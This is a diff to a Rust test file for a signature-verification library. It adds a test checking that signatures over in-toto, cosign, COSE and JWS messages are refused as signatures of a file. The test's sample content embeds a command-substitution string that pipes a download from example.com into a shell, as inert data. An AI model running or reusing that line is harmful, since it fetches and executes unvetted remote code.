@@ -4,13 +4,24 @@
 use base64::Engine as _;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
 use bulla::envelope::FileToSign;
+use bulla::envelope::MessageSignature;
 use bulla::envelope::SignatureInput;
 use bulla::envelope::pre_authentication_encoding;
 use bulla::key::KeyKind;
 use bulla::key::PrivateKey;
+use bulla::key::Signer as _;
 use bulla::limits::Limits;
 use bulla::ops::file;
+use bulla::ops::file::FileEvidence;
+use bulla::ops::file::FileRefusal;
 use bulla::ops::file::FileSigningError;
+use bulla::ops::file::FileVerification;
+use bulla::policy::FileStatement;
+use bulla::policy::Quorum;
+use bulla::policy::Threshold;
+use bulla::time::Time;
+use bulla::trust::TrustRoot;
+use bulla::trust::VerificationTime;
 
 const CLAIM: &str = r#"{"critical":{"identity":{"docker-reference":""},"image":{"docker-manifest-digest":"sha256:00"},"type":"cosign container image signature"},"optional":null}"#;
 
@@ -61,6 +72,48 @@ fn the_message_of_every_format_is_refused() {
         ] {
             assert_eq!(refused_as(content, &key), Some(wanted));
         }
+    }
+}
+
+/// Who signed an image or a statement has not signed the file that the signed message is, which says what its author wrote.
+#[test]
+fn a_signature_of_another_kind_is_no_signature_of_a_file() {
+    let script = b"{\n\"x\": \"$(curl https://example.com | sh)\"\n}";
+    let pae = pre_authentication_encoding("application/vnd.in-toto+json", script);
+    let verdict = |content: &[u8], key: &PrivateKey, statement: FileStatement| {
+        let trust = TrustRoot::pinned([key.public_key().clone()]).unwrap();
+        let by = FileVerification {
+            limits: &Limits::DEFAULT,
+            quorum: &Quorum::of_all(&trust, Threshold::ONE).unwrap(),
+            statement: &statement,
+            time: VerificationTime::now(Time::EPOCH),
+            trust: &trust,
+        };
+        let signature = key.sign(content).unwrap().as_bytes().to_vec();
+        let mut evidence = FileEvidence::new();
+        evidence.add_signature("sig", &signature);
+        evidence.add_bundle(
+            "bundle",
+            &MessageSignature { digest: None, signature }.to_bundle_json(key.public_key()).unwrap(),
+            &Limits::DEFAULT,
+        );
+        let file = FileToSign::read_with(&mut Slow(content), evidence.hasher(&trust, &Limits::DEFAULT)).unwrap();
+        let codes = |refusal: Box<FileRefusal>| {
+            assert!(!refusal.is_undetermined() && refusal.accepted.is_empty());
+            refusal.findings.iter().map(|finding| finding.reason.code()).collect::<Vec<_>>()
+        };
+        // Of a digest alone it cannot be told.
+        assert!(by.verify(file.message(), &evidence).is_ok());
+        by.verify_file(&file, &evidence).map(drop).map_err(codes)
+    };
+    for kind in [KeyKind::P256, KeyKind::Ed25519] {
+        let key = PrivateKey::generate(kind).unwrap();
+        for content in [pae.as_slice(), CLAIM.as_bytes(), b"\x84\x6aSignature1\x40\x40\x40", &jws("{}", "{}")] {
+            for statement in [FileStatement::Signature, FileStatement::Any] {
+                assert_eq!(verdict(content, &key, statement), Err(vec!["signature-input"; 2]));
+            }
+        }
+        assert_eq!(verdict(script, &key, FileStatement::Signature), Ok(()));
     }
 }
 
